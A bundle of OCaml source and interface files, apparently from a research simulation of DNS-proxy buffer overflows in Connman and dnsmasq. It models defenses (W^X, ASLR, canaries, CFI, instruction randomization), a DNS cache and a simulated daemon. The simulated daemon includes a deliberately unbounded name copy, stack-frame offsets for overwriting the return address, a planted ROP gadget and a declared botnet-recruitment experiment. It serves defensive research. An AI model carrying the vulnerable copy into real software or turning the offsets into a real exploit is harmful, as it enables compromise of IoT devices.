val home_ssid : string
val pp_result : Format.formatter -> result -> unit

(** {1 Botnet recruitment}

    The §III-D remark: "exploit code designed to create a botnet could be
    sent to visitors, allowing a recreation of the Mirai attack".  A fleet
    of devices (possibly mixed firmware) joins a network whose resolver
    the attacker poisoned; each connectivity check returns a payload
    fitted to that device's firmware. *)

type botnet_result = {
  fleet : (string * [ `Recruited | `Resisted | `Crashed ]) list;
  recruited : int;
  resisted : int;
}

val botnet_recruitment :
  ?seed:int -> firmwares:Firmware.t list -> unit -> botnet_result
