let mean = function
  | [] -> 0.0
  | xs -> List.fold_left ( +. ) 0.0 xs /. float_of_int (List.length xs)

let stddev = function
  | [] | [ _ ] -> 0.0
  | xs ->
      let m = mean xs in
      sqrt (mean (List.map (fun x -> (x -. m) ** 2.0) xs))

let binomial_rate ~hits ~trials =
  if trials <= 0 then invalid_arg "Stats.binomial_rate: trials must be positive";
  float_of_int hits /. float_of_int trials

let wilson_interval ~hits ~trials ?(z = 1.96) () =
  if trials <= 0 then invalid_arg "Stats.wilson_interval: trials must be positive";
  let n = float_of_int trials in
  let p = float_of_int hits /. n in
  let z2 = z *. z in
  let denom = 1.0 +. (z2 /. n) in
  let centre = (p +. (z2 /. (2.0 *. n))) /. denom in
  let half =
    z /. denom *. sqrt ((p *. (1.0 -. p) /. n) +. (z2 /. (4.0 *. n *. n)))
  in
  (Float.max 0.0 (centre -. half), Float.min 1.0 (centre +. half))

(* A hair of slack absorbs float roundoff at the p = 0 and p = 1
   boundaries, where the Wilson endpoints are exact in real arithmetic. *)
let interval_contains (lo, hi) x = lo -. 1e-9 <= x && x <= hi +. 1e-9
