(** Small statistics helpers for experiment evaluation.

    The A4 entropy sweep measures a Bernoulli success rate and compares
    it to the theoretical 2^-bits; the comparison uses a Wilson score
    interval rather than an ad-hoc tolerance. *)

val mean : float list -> float
(** 0 for the empty list. *)

val stddev : float list -> float
(** Population standard deviation; 0 for lists shorter than 2. *)

val binomial_rate : hits:int -> trials:int -> float

val wilson_interval : hits:int -> trials:int -> ?z:float -> unit -> float * float
(** 95% (z = 1.96) Wilson score interval for a binomial proportion —
    well-behaved at 0 and 1, unlike the normal approximation. *)

val interval_contains : float * float -> float -> bool
