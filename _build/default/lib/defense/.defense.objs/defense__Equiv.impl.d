lib/defense/equiv.ml: Isa_arm Isa_x86 List Memsim
