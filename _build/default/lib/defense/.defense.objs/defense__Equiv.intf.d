lib/defense/equiv.mli: Isa_arm Isa_x86
