lib/defense/profile.ml: Format Printf String
