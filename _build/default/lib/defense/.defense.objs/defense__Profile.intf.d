lib/defense/profile.mli: Format
