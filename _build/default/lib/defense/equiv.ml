module Rng = Memsim.Rng

(* Each rewrite preserves the architectural effect the surrounding code can
   observe; flag effects are deliberately matched only where our programs
   rely on them (none of the substituted forms is followed by a dependent
   conditional in the builders, and the property tests in
   test_differential check end-state equality). *)

let x86 ~seed program =
  let rng = Rng.create (seed lxor 0xE9_01) in
  let rewrite item =
    let open Isa_x86.Insn in
    match item with
    | Isa_x86.Asm.I insn when Rng.bool rng -> (
        Isa_x86.Asm.I
          (match insn with
          | Xor (Reg a, Reg b) when a = b -> Mov_ri (a, 0)
          | Mov_ri (r, 0) -> Xor (Reg r, Reg r)
          | Add_i (Reg r, 1) -> Inc_r r
          | Inc_r r -> Add_i (Reg r, 1)
          | Sub_i (Reg r, 1) -> Dec_r r
          | Dec_r r -> Sub_i (Reg r, 1)
          | other -> other))
    | other -> other
  in
  List.map rewrite program

let arm ~seed program =
  let rng = Rng.create (seed lxor 0xE9_02) in
  let rewrite item =
    let open Isa_arm.Insn in
    match item with
    | Isa_arm.Asm.I { cond = AL; op } when Rng.bool rng -> (
        Isa_arm.Asm.I
          (al
             (match op with
             | Mov (rd, Imm 0) when rd <> PC -> Eor (rd, rd, Reg rd)
             | Eor (rd, rn, Reg rm) when rd = rn && rn = rm && rd <> PC ->
                 Mov (rd, Imm 0)
             | Mov (rd, Reg rm) when rd <> PC && rm <> PC && rd <> rm ->
                 Orr (rd, rm, Imm 0)
             | Orr (rd, rm, Imm 0) when rd <> PC && rm <> PC -> Mov (rd, Reg rm)
             | other -> other)))
    | other -> other
  in
  List.map rewrite program

let count_rewrites_x86 a b =
  List.fold_left2
    (fun n x y ->
      match (x, y) with
      | Isa_x86.Asm.I i, Isa_x86.Asm.I j when i <> j -> n + 1
      | _ -> n)
    0 a b

let count_rewrites_arm a b =
  List.fold_left2
    (fun n x y ->
      match (x, y) with
      | Isa_arm.Asm.I i, Isa_arm.Asm.I j when i <> j -> n + 1
      | _ -> n)
    0 a b
