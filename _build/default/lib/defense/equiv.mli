(** Equivalent-instruction randomization (§IV).

    The paper's authors describe "a combination of equivalent-instruction
    randomization and other randomization techniques to randomize compiled
    programs into dynamically equivalent binaries" as work in progress at
    UNC Charlotte.  This module is that pass for the simulated ISAs: a
    seeded rewrite that replaces instructions with semantically-equivalent
    forms, changing the bytes (and, on x86, the lengths — hence every
    downstream address) without changing behaviour.

    Substitution tables (applied with probability ~1/2 per occurrence):
    - x86: [xor r, r] ↔ [mov r, 0];  [add rm, 1] ↔ [inc r];
      [sub rm, 1] ↔ [dec r];  [mov r, 0] → [xor r, r]
    - ARM: [mov rd, #0] ↔ [eor rd, rd, rd];  [mov rd, rm] ↔
      [orr rd, rm, #0] (rd ≠ pc, rm ≠ pc) *)

val x86 : seed:int -> Isa_x86.Asm.program -> Isa_x86.Asm.program
val arm : seed:int -> Isa_arm.Asm.program -> Isa_arm.Asm.program

val count_rewrites_x86 : Isa_x86.Asm.program -> Isa_x86.Asm.program -> int
(** Number of item positions whose instruction differs (diagnostics). *)

val count_rewrites_arm : Isa_arm.Asm.program -> Isa_arm.Asm.program -> int
