(** Memory-protection profiles.

    The paper evaluates three levels (§III): no protections, W⊕X, and
    W⊕X+ASLR — all with stack canaries disabled, as in the targeted
    Connman builds.  Canaries, CFI and software diversity are the
    additional mitigations of §IV, exposed here for the ablation
    experiments. *)

type t = {
  wxorx : bool;  (** non-executable stack (NX pages) *)
  aslr : bool;  (** randomize libc and stack bases per boot *)
  aslr_entropy_bits : int;  (** pages of entropy when [aslr] is on *)
  canary : bool;  (** stack-protector cookie in vulnerable frames *)
  cfi : bool;  (** shadow-stack return-edge CFI (CFI CaRE analogue) *)
  seccomp : bool;
      (** syscall filter: the daemon may not exec — a shell spawn becomes
          a policy kill (a modern IoT hardening measure, complementary to
          the paper's §IV list) *)
}

val none : t
(** §III-A: everything off — code injection works. *)

val wx : t
(** §III-B: W⊕X only — code reuse (ret2libc / simple ROP) works. *)

val wx_aslr : t
(** §III-C: W⊕X + ASLR (default 12 bits) — PLT/.bss-based ROP works. *)

val with_canary : t -> t
val with_cfi : t -> t
val with_seccomp : t -> t
val with_entropy : int -> t -> t

val name : t -> string
(** Short label, e.g. ["none"], ["wx"], ["wx+aslr"], ["wx+aslr+canary"]. *)

val pp : Format.formatter -> t -> unit
