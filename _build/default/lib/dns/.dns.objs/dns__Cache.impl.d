lib/dns/cache.ml: Hashtbl
