lib/dns/cache.ml: Array Format Hashtbl
