lib/dns/cache.mli:
