lib/dns/cache.mli: Format
