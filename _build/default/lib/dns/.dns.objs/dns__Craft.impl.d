lib/dns/craft.ml: Array Buffer Bytes Char List Name Packet String
