lib/dns/craft.mli: Packet
