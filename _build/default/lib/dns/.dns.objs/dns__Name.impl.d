lib/dns/name.ml: Buffer Char List String
