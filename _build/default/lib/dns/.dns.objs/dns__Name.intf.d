lib/dns/name.mli:
