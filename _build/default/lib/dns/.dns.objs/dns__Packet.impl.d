lib/dns/packet.ml: Buffer Char Format Hashtbl List Name Printf Result String
