lib/dns/packet.mli: Format Name
