type entry = { ipv4 : int; expires : int }

type stats = { hits : int; misses : int; insertions : int; evictions : int }

type t = {
  capacity : int;
  table : (string, entry) Hashtbl.t;
  mutable hits : int;
  mutable misses : int;
  mutable insertions : int;
  mutable evictions : int;
}

let create ?(capacity = 256) () =
  if capacity <= 0 then invalid_arg "Cache.create: capacity must be positive";
  {
    capacity;
    table = Hashtbl.create 64;
    hits = 0;
    misses = 0;
    insertions = 0;
    evictions = 0;
  }

let expired now entry = entry.expires <= now

(* Evict the entry closest to expiry (expired ones first, trivially). *)
let evict_one t =
  let victim =
    Hashtbl.fold
      (fun name entry best ->
        match best with
        | Some (_, e) when e.expires <= entry.expires -> best
        | _ -> Some (name, entry))
      t.table None
  in
  match victim with
  | Some (name, _) ->
      Hashtbl.remove t.table name;
      t.evictions <- t.evictions + 1
  | None -> ()

let insert t ~now ~name ~ttl ~ipv4 =
  if ttl > 0 then begin
    if Hashtbl.length t.table >= t.capacity && not (Hashtbl.mem t.table name)
    then evict_one t;
    Hashtbl.replace t.table name { ipv4; expires = now + ttl };
    t.insertions <- t.insertions + 1
  end

let lookup t ~now name =
  match Hashtbl.find_opt t.table name with
  | Some entry when not (expired now entry) ->
      t.hits <- t.hits + 1;
      Some entry.ipv4
  | Some _ ->
      Hashtbl.remove t.table name;
      t.misses <- t.misses + 1;
      None
  | None ->
      t.misses <- t.misses + 1;
      None

let remove t name = Hashtbl.remove t.table name

let size t ~now =
  Hashtbl.fold
    (fun _ entry n -> if expired now entry then n else n + 1)
    t.table 0

let flush t = Hashtbl.reset t.table

let stats t =
  {
    hits = t.hits;
    misses = t.misses;
    insertions = t.insertions;
    evictions = t.evictions;
  }
