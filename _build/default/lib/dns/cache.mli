(** TTL-aware DNS cache (the state the Connman DNS proxy exists to keep).

    A pure-ish cache keyed by name: entries expire after their record
    TTL, capacity is bounded with oldest-expiry eviction, and lookups are
    counted so tests and examples can observe hit rates.  Time is a
    caller-supplied monotonic value in seconds — the simulation owns the
    clock. *)

type t

val create : ?capacity:int -> unit -> t
(** Default capacity 256 entries. *)

val insert : t -> now:int -> name:string -> ttl:int -> ipv4:int -> unit
(** [ttl] seconds; a 0 TTL entry is never returned. *)

val lookup : t -> now:int -> string -> int option
(** The cached IPv4 (host order) if fresh. *)

val remove : t -> string -> unit
val size : t -> now:int -> int
(** Live (unexpired) entries. *)

val flush : t -> unit

type stats = { hits : int; misses : int; insertions : int; evictions : int }

val stats : t -> stats
