lib/dnsmasq/daemon.mli: Defense Dns Format Loader Machine
