lib/dnsmasq/frame.ml: Loader Machine
