lib/dnsmasq/frame.mli: Loader Machine
