lib/dnsmasq/program_arm.ml: Asm Defense Isa_arm Loader Printf
