lib/dnsmasq/program_arm.mli: Defense Loader
