lib/dnsmasq/program_x86.ml: Asm Defense Isa_x86 Loader Printf
