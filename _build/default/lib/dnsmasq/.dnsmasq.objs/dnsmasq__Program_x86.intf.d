lib/dnsmasq/program_x86.mli: Defense Loader
