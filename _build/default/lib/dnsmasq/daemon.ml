module Mem = Memsim.Memory
module O = Machine.Outcome

type disposition =
  | Cached of int
  | Dropped of string
  | Crashed of O.stop_reason
  | Compromised of O.stop_reason
  | Blocked of O.stop_reason

let pp_disposition ppf = function
  | Cached n -> Format.fprintf ppf "cached %d record(s)" n
  | Dropped why -> Format.fprintf ppf "dropped (%s)" why
  | Crashed r -> Format.fprintf ppf "CRASHED: %a" O.pp r
  | Compromised r -> Format.fprintf ppf "COMPROMISED: %a" O.pp r
  | Blocked r -> Format.fprintf ppf "blocked by defense: %a" O.pp r

type config = {
  patched : bool;
  arch : Loader.Arch.t;
  profile : Defense.Profile.t;
  boot_seed : int;
}

type t = {
  config : config;
  mutable proc : Loader.Process.t;
  mutable alive : bool;
  mutable restarts : int;
  mutable next_id : int;
  pending : (int, Dns.Packet.question) Hashtbl.t;
  cache : Dns.Cache.t;
  mutable clock : int;  (* logical seconds, advanced by [tick] *)
}

let build_spec config =
  match config.arch with
  | Loader.Arch.X86 ->
      Program_x86.spec ~patched:config.patched ~profile:config.profile
  | Loader.Arch.Arm ->
      Program_arm.spec ~patched:config.patched ~profile:config.profile

let negative_ttl = 60

let boot config ~restarts =
  Loader.Process.boot (build_spec config) ~profile:config.profile
    ~seed:(config.boot_seed + (restarts * 7919))

let create ?cache_capacity config =
  {
    config;
    proc = boot config ~restarts:0;
    alive = true;
    restarts = 0;
    next_id = 0x2000 + (config.boot_seed land 0xFFF);
    pending = Hashtbl.create 8;
    cache = Dns.Cache.create ?capacity:cache_capacity ();
    clock = 0;
  }

let restart t =
  t.restarts <- t.restarts + 1;
  t.proc <- boot t.config ~restarts:t.restarts;
  t.alive <- true;
  Hashtbl.reset t.pending

let process t = t.proc
let alive t = t.alive
let tick t seconds = t.clock <- t.clock + max 0 seconds
let cache t = t.cache
let cache_stats t = Dns.Cache.stats t.cache

let cache_lookup t qname =
  Dns.Cache.lookup t.cache ~now:t.clock (Dns.Name.to_string qname)

let make_query t qname =
  let id = t.next_id land 0xFFFF in
  t.next_id <- t.next_id + 1;
  let q = Dns.Packet.query ~id qname Dns.Packet.A in
  Hashtbl.replace t.pending id (List.hd q.Dns.Packet.questions);
  q

let prevalidate t wire =
  let len = String.length wire in
  if len < 12 then Error "short packet"
  else
    let u16 off = (Char.code wire.[off] lsl 8) lor Char.code wire.[off + 1] in
    if (u16 2 lsr 15) land 1 <> 1 then Error "not a response"
    else if u16 4 <> 1 || u16 6 < 1 then Error "unexpected counts"
    else
      match Hashtbl.find_opt t.pending (u16 0) with
      | None -> Error "unknown transaction id"
      | Some _ ->
          Hashtbl.remove t.pending (u16 0);
          Ok ()

(* Same host-side policy as Connman's proxy: an NXDOMAIN answering a
   pending question is negatively cached and never parsed. *)
let nxdomain_negative t wire =
  let len = String.length wire in
  if len < 12 then false
  else
    let u16 off = (Char.code wire.[off] lsl 8) lor Char.code wire.[off + 1] in
    let flags = u16 2 in
    if (flags lsr 15) land 1 <> 1 || flags land 0xF <> 3 then false
    else
      match Hashtbl.find_opt t.pending (u16 0) with
      | None -> false
      | Some pending ->
          Hashtbl.remove t.pending (u16 0);
          Dns.Cache.insert_negative t.cache ~now:t.clock
            ~name:(Dns.Name.to_string pending.Dns.Packet.qname)
            ~ttl:negative_ttl;
          true

(* Record the A answers of a successfully-parsed response. *)
let update_cache t wire =
  match Dns.Packet.decode wire with
  | Error _ -> ()
  | Ok msg ->
      List.iter
        (fun (rr : Dns.Packet.rr) ->
          match
            (rr.Dns.Packet.rtype, Dns.Packet.ipv4_of_rdata rr.Dns.Packet.rdata)
          with
          | Dns.Packet.A, Some ip ->
              Dns.Cache.insert t.cache ~now:t.clock
                ~name:(Dns.Name.to_string rr.Dns.Packet.rname)
                ~ttl:rr.Dns.Packet.ttl ~ipv4:ip
          | _ -> ())
        msg.Dns.Packet.answers

let handle_response t wire =
  if not t.alive then Dropped "daemon not running"
  else if nxdomain_negative t wire then Dropped "nxdomain (negative cached)"
  else
    match prevalidate t wire with
    | Error why -> Dropped why
    | Ok () ->
        let buf = t.proc.Loader.Process.layout.Loader.Layout.heap_base in
        if String.length wire > t.proc.Loader.Process.layout.Loader.Layout.heap_size
        then Dropped "oversized datagram"
        else begin
          Mem.write_bytes t.proc.Loader.Process.mem buf wire;
          let entry = Loader.Process.symbol t.proc "process_reply" in
          let r =
            Loader.Process.call t.proc ~fuel:400_000 ~entry
              ~args:[ buf; String.length wire ]
          in
          match r.Loader.Process.outcome with
          | O.Halted ->
              update_cache t wire;
              Cached
                (match Dns.Packet.decode wire with
                | Ok m -> List.length m.Dns.Packet.answers
                | Error _ -> 0)
          | O.Exec _ as reason ->
              t.alive <- false;
              Compromised reason
          | (O.Fault _ | O.Decode_error _ | O.Fuel_exhausted | O.Exited _) as
            reason ->
              t.alive <- false;
              Crashed reason
          | (O.Cfi_violation _ | O.Aborted _) as reason ->
              t.alive <- false;
              Blocked reason
        end
