(** The dnsmasq-sim forwarder daemon (§V adaptation target).

    Same operational surface as {!Connman.Dnsproxy}: queries out,
    responses pre-validated and then parsed by the vulnerable machine
    code.  The point of this module is that {!Exploit.Autogen} retargets
    to it by swapping frame geometry only. *)

type disposition =
  | Cached of int
  | Dropped of string
  | Crashed of Machine.Outcome.stop_reason
  | Compromised of Machine.Outcome.stop_reason
  | Blocked of Machine.Outcome.stop_reason

val pp_disposition : Format.formatter -> disposition -> unit

type config = {
  patched : bool;  (** 2.78 (bounded) vs 2.77 (vulnerable) *)
  arch : Loader.Arch.t;
  profile : Defense.Profile.t;
  boot_seed : int;
}

type t

val create : config -> t
val process : t -> Loader.Process.t
val alive : t -> bool
val make_query : t -> Dns.Name.t -> Dns.Packet.t
val handle_response : t -> string -> disposition
