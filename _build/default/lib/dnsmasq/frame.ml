module F = Machine.Stack_frame

(* These constants mirror Program_x86/Program_arm; test_dnsmasq verifies
   them against the running code.  There are no NULL-checked pointer
   slots in this daemon: the window is parked inside the buffer tail
   where zero bytes are harmless. *)

let x86 =
  {
    F.buffer_size = 2048;
    off_null1 = 0x7F8;
    off_null2 = 0x7FC;
    off_canary = 0x808;  (* [ebp-8] *)
    off_saved = [ ("ebx", 0x80C); ("ebp", 0x810) ];
    off_ret = 0x814;
    frame_end = 0x818;
  }

let arm =
  {
    F.buffer_size = 2048;
    off_null1 = 0x7F8;
    off_null2 = 0x7FC;
    off_canary = 0x808;  (* [fp-0x10] *)
    off_saved = [ ("r4", 0x818); ("r5", 0x81C); ("fp", 0x820) ];
    off_ret = 0x824;  (* saved lr *)
    frame_end = 0x828;
  }

let geometry = function Loader.Arch.X86 -> x86 | Loader.Arch.Arm -> arm

(* x86: 2 args (8) + return (4) + push ebp (4) + push ebx (4); buffer at
   ebp-0x810.  ARM: push {r4, r5, fp, lr} (16); buffer at fp-0x818. *)
let buffer_addr proc =
  let top = proc.Loader.Process.layout.Loader.Layout.stack_top - 0x100 in
  match proc.Loader.Process.arch with
  | Loader.Arch.X86 -> top - 16 - 0x810
  | Loader.Arch.Arm -> top - 16 - 0x818
