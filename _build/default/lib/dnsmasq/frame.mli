(** Frame geometry of dnsmasq-sim's [extract_name] caller — the "minimal
    modification" §V says retargets the Connman tooling to other DNS-based
    overflows (CVE-2017-14493-class): a 2048-byte buffer and different
    offsets, otherwise the same attack surface. *)

val geometry : Loader.Arch.t -> Machine.Stack_frame.t
val buffer_addr : Loader.Process.t -> int
