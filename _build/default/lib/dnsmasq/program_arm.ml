open Isa_arm
open Isa_arm.Insn

let entry = "process_reply"
let i op = Asm.I (al op)

(* --- process_reply(r0 buf, r1 len) --------------------------------------
   Frame (offsets from the 2048-byte buffer, see Frame.arm):
     [fp-0x81C] name_len   [fp-0x818 .. fp-0x19] daemon_namebuff[2048]
     [fp-0x10] canary (optional)   saved {r4,r5,fp,lr} at [fp .. fp+0xC]  *)
let process_reply ~canary =
  [
    Asm.Label "process_reply";
    i (Push [ R4; R5; R11; LR ]);
    i (Mov (R11, Reg SP));
    i (Sub (SP, SP, Imm 0x800));
    i (Sub (SP, SP, Imm 0x20));
  ]
  @ (if canary then
       [
         Asm.Ldr_sym (R3, "dr.lit_canary");
         i (Ldr (R3, R3, 0));
         i (Str (R3, R11, -0x10));
       ]
     else [])
  @ [
      i (Mov (R3, Imm 0));
      i (Str (R3, R11, -0x81C));
      i (Mov (R4, Reg R0));
      i (Add (R2, R0, Imm 12));
      Asm.Label "dq.skip";
      i (Ldrb (R3, R2, 0));
      i (Cmp (R3, Imm 0));
      Asm.B_sym (EQ, "dq.end");
      i (Cmp (R3, Imm 0xC0));
      Asm.B_sym (CS, "dq.ptr");
      i (Add (R2, R2, Reg R3));
      i (Add (R2, R2, Imm 1));
      Asm.B_sym (AL, "dq.skip");
      Asm.Label "dq.ptr";
      i (Add (R2, R2, Imm 2));
      Asm.B_sym (AL, "dq.done");
      Asm.Label "dq.end";
      i (Add (R2, R2, Imm 1));
      Asm.Label "dq.done";
      i (Add (R2, R2, Imm 4));
      (* extract_name(msg, p, name, &name_len) *)
      i (Mov (R0, Reg R4));
      i (Mov (R1, Reg R2));
      (* 0x818 is not an encodable modified-immediate: split it *)
      i (Sub (R2, R11, Imm 0x800));
      i (Sub (R2, R2, Imm 0x18));
      i (Sub (R3, R11, Imm 0x800));
      i (Sub (R3, R3, Imm 0x1C));
      Asm.Bl_sym "extract_name";
      i (Cmp (R0, Imm 0));
      Asm.B_sym (NE, "dr.out");
      (* cache_insert(name, name_len) *)
      i (Sub (R0, R11, Imm 0x800));
      i (Sub (R0, R0, Imm 0x18));
      i (Ldr (R1, R11, -0x81C));
      Asm.Bl_sym "cache_insert";
      Asm.Label "dr.out";
    ]
  @ (if canary then
       [
         Asm.Ldr_sym (R3, "dr.lit_canary");
         i (Ldr (R3, R3, 0));
         i (Ldr (R2, R11, -0x10));
         i (Cmp (R2, Reg R3));
         Asm.B_sym (NE, "dr.smashed");
       ]
     else [])
  @ [ i (Mov (SP, Reg R11)); i (Pop [ R4; R5; R11; PC ]) ]
  @ (if canary then
       [ Asm.Label "dr.smashed"; Asm.Bl_sym "__stack_chk_fail@plt" ]
     else [])
  @
  if canary then [ Asm.Label "dr.lit_canary"; Asm.Word_sym "__canary" ] else []

(* --- extract_name(r0 msg, r1 p, r2 name, r3 &name_len): inline copy --- *)
let extract_name ~patched =
  [
    Asm.Label "extract_name";
    i (Push [ R4; R5; R6; R7; LR ]);
    i (Mov (R4, Reg R1));  (* cursor *)
    i (Mov (R5, Reg R2));  (* name *)
    i (Mov (R6, Reg R3));  (* &nl *)
    i (Mov (R7, Reg R0));  (* msg *)
    Asm.Label "en.loop";
    i (Ldrb (R3, R4, 0));
    i (Cmp (R3, Imm 0));
    Asm.B_sym (EQ, "en.done");
    i (Cmp (R3, Imm 0xC0));
    Asm.B_sym (CS, "en.pointer");
    i (Ldr (R1, R6, 0));
  ]
  @ (if patched then
       [
         i (Add (R0, R1, Reg R3));
         i (Add (R0, R0, Imm 2));
         i (Cmp (R0, Imm 2048));
         Asm.B_sym (GT, "en.fail");
       ]
     else [])
  @ [
      (* name[nl++] = len; then the inline byte loop *)
      i (Add (R0, R5, Reg R1));
      i (Strb (R3, R0, 0));
      i (Add (R0, R0, Imm 1));
      Asm.Label "en.copy";
      i (Cmp (R3, Imm 0));
      Asm.B_sym (EQ, "en.copied");
      i (Add (R4, R4, Imm 1));
      i (Ldrb (R2, R4, 0));
      i (Strb (R2, R0, 0));
      i (Add (R0, R0, Imm 1));
      i (Sub (R3, R3, Imm 1));
      Asm.B_sym (AL, "en.copy");
      Asm.Label "en.copied";
      i (Sub (R1, R0, Reg R5));
      i (Str (R1, R6, 0));
      i (Add (R4, R4, Imm 1));
      Asm.B_sym (AL, "en.loop");
      Asm.Label "en.pointer";
      i (Sub (R3, R3, Imm 0xC0));
      i (Mov (R3, Lsl (R3, 8)));
      i (Ldrb (R1, R4, 1));
      i (Add (R3, R3, Reg R1));
      i (Add (R4, R7, Reg R3));
      Asm.B_sym (AL, "en.loop");
      Asm.Label "en.fail";
      i (Mvn (R0, Imm 0));
      i (Pop [ R4; R5; R6; R7; PC ]);
      Asm.Label "en.done";
      i (Mov (R0, Imm 0));
      i (Pop [ R4; R5; R6; R7; PC ]);
    ]

let cache_insert =
  [
    Asm.Label "cache_insert";
    i (Push [ R4; LR ]);
    i (Mov (R1, Reg R0));
    Asm.Ldr_sym (R0, "ci.lit_bss");
    i (Add (R0, R0, Imm 0x100));
    i (Mov (R2, Imm 16));
    Asm.Bl_sym "memcpy@plt";
    i (Pop [ R4; PC ]);
    Asm.Label "ci.lit_bss";
    Asm.Word_sym "__bss_start";
  ]

let run_script =
  [
    Asm.Label "run_script";
    i (Push [ R4; LR ]);
    Asm.Ldr_sym (R0, "rs.lit_script");
    i (Mov (R1, Imm 0));
    Asm.Bl_sym "execlp@plt";
    i (Pop [ R4; PC ]);
    Asm.Label "rs.lit_script";
    Asm.Word_sym "str_script";
  ]

(* Event-loop context restore: the paper-shaped pop gadget. *)
let tcp_dispatch =
  [
    Asm.Label "tcp_dispatch";
    i (Push [ R0; R1; R2; R3; R5; R6; R7; LR ]);
    i (Mov (R0, Imm 0));
    i (Pop [ R0; R1; R2; R3; R5; R6; R7; PC ]);
  ]

(* Indirect handler call with a resumable tail. *)
let call_hook =
  [
    Asm.Label "call_hook";
    i (Push [ R4; LR ]);
    i (Blx_r R3);
    i (Pop [ R4; PC ]);
  ]

let rodata ~patched =
  [
    Asm.Align 4;
    Asm.Label "str_version";
    Asm.Bytes (Printf.sprintf "dnsmasq %s\x00" (if patched then "2.78" else "2.77"));
    Asm.Label "str_script";
    Asm.Bytes "/etc/dnsmasq/dhcp-script\x00";
    Asm.Label "str_conf";
    Asm.Bytes "/etc/dnsmasq.conf\x00";
    Asm.Label "str_bin";
    Asm.Bytes "/usr/sbin/dnsmasq\x00";
    Asm.Label "str_host";
    Asm.Bytes "localhost\x00";
    Asm.Align 4;
  ]

let spec ~patched ~profile =
  let canary = profile.Defense.Profile.canary in
  let program =
    process_reply ~canary @ extract_name ~patched @ cache_insert @ run_script
    @ tcp_dispatch @ call_hook @ rodata ~patched
  in
  {
    Loader.Process.name = (if patched then "dnsmasq-2.78" else "dnsmasq-2.77");
    code = Loader.Process.Arm_code program;
    imports = [ "memcpy"; "execlp"; "exit"; "abort"; "__stack_chk_fail" ];
    bss_size = 0x2000;
  }
