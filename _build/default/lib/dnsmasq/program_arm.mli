(** dnsmasq-sim for ARMv7 (see {!Program_x86} for the design notes). *)

val spec : patched:bool -> profile:Defense.Profile.t -> Loader.Process.spec
val entry : string
