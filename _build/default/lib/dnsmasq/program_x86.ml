open Isa_x86
open Isa_x86.Insn

let entry = "process_reply"

let ebp_off d = Mem { base = Some EBP; disp = d }
let at r = Mem { base = Some r; disp = 0 }

(* --- process_reply(buf, len) ------------------------------------------
   Frame (offsets from the 2048-byte buffer, see Frame.x86):
     [ebp-0x814] name_len   [ebp-0x810 .. ebp-0x11] daemon_namebuff[2048]
     [ebp-8] canary (optional)   [ebp-4] saved ebx                       *)
let process_reply ~canary =
  [
    Asm.Label "process_reply";
    Asm.I (Push_r EBP);
    Asm.I (Mov (Reg EBP, Reg ESP));
    Asm.I (Push_r EBX);
    Asm.I (Sub_i (Reg ESP, 0x810));
  ]
  @ (if canary then
       [
         Asm.Mov_ri_sym (EAX, "__canary");
         Asm.I (Mov (Reg EAX, at EAX));
         Asm.I (Mov (ebp_off (-8), Reg EAX));
       ]
     else [])
  @ [
      Asm.I (Xor (Reg EAX, Reg EAX));
      Asm.I (Mov (ebp_off (-0x814), Reg EAX));
      (* cursor past header + question, as in the Connman image *)
      Asm.I (Mov (Reg EAX, ebp_off 8));
      Asm.I (Add_i (Reg EAX, 12));
      Asm.Label "dq.skip";
      Asm.I (Movzx_b (ECX, at EAX));
      Asm.I (Cmp_i (Reg ECX, 0));
      Asm.Jcc (E, "dq.end");
      Asm.I (Cmp_i (Reg ECX, 0xC0));
      Asm.Jcc (AE, "dq.ptr");
      Asm.I (Add (Reg EAX, Reg ECX));
      Asm.I (Inc_r EAX);
      Asm.Jmp "dq.skip";
      Asm.Label "dq.ptr";
      Asm.I (Add_i (Reg EAX, 2));
      Asm.Jmp "dq.done";
      Asm.Label "dq.end";
      Asm.I (Inc_r EAX);
      Asm.Label "dq.done";
      Asm.I (Add_i (Reg EAX, 4));
      (* extract_name(buf, p, namebuff, &name_len) *)
      Asm.I (Lea (ECX, { base = Some EBP; disp = -0x814 }));
      Asm.I (Push_r ECX);
      Asm.I (Lea (ECX, { base = Some EBP; disp = -0x810 }));
      Asm.I (Push_r ECX);
      Asm.I (Push_r EAX);
      Asm.I (Push_m { base = Some EBP; disp = 8 });
      Asm.Call "extract_name";
      Asm.I (Add_i (Reg ESP, 16));
      Asm.I (Cmp_i (Reg EAX, 0));
      Asm.Jcc (NE, "dr.out");
      (* cache_insert(namebuff, name_len) *)
      Asm.I (Push_m { base = Some EBP; disp = -0x814 });
      Asm.I (Lea (ECX, { base = Some EBP; disp = -0x810 }));
      Asm.I (Push_r ECX);
      Asm.Call "cache_insert";
      Asm.I (Add_i (Reg ESP, 8));
      Asm.Label "dr.out";
    ]
  @ (if canary then
       [
         Asm.I (Mov (Reg EAX, ebp_off (-8)));
         Asm.Mov_ri_sym (ECX, "__canary");
         Asm.I (Mov (Reg ECX, at ECX));
         Asm.I (Cmp (Reg EAX, Reg ECX));
         Asm.Jcc (NE, "dr.smashed");
       ]
     else [])
  @ [
      Asm.I (Add_i (Reg ESP, 0x810));
      Asm.I (Pop_r EBX);
      Asm.I (Pop_r EBP);
      Asm.I Ret;
    ]
  @
  if canary then [ Asm.Label "dr.smashed"; Asm.Call "__stack_chk_fail@plt" ]
  else []

(* --- extract_name(msg, p, name, name_len) ------------------------------
   The same label-stream expansion as Connman's get_name, but with an
   inline byte loop (dnsmasq links no memcpy on this path) and no bound
   in vulnerable builds. *)
let extract_name ~patched =
  [
    Asm.Label "extract_name";
    Asm.I (Push_r EBP);
    Asm.I (Mov (Reg EBP, Reg ESP));
    Asm.I (Push_r EBX);
    Asm.I (Push_r ESI);
    Asm.I (Push_r EDI);
    Asm.I (Mov (Reg ESI, ebp_off 12));
    Asm.I (Mov (Reg EDI, ebp_off 16));
    Asm.I (Mov (Reg EBX, ebp_off 20));
    Asm.Label "en.loop";
    Asm.I (Movzx_b (ECX, at ESI));
    Asm.I (Cmp_i (Reg ECX, 0));
    Asm.Jcc (E, "en.done");
    Asm.I (Cmp_i (Reg ECX, 0xC0));
    Asm.Jcc (AE, "en.pointer");
    Asm.I (Mov (Reg EDX, at EBX));
  ]
  @ (if patched then
       [
         (* The 2.78-style bound. *)
         Asm.I (Mov (Reg EAX, Reg EDX));
         Asm.I (Add (Reg EAX, Reg ECX));
         Asm.I (Add_i (Reg EAX, 2));
         Asm.I (Cmp_i (Reg EAX, 2048));
         Asm.Jcc (G, "en.fail");
       ]
     else [])
  @ [
      (* name[nl++] = len *)
      Asm.I (Mov (Reg EAX, Reg EDI));
      Asm.I (Add (Reg EAX, Reg EDX));
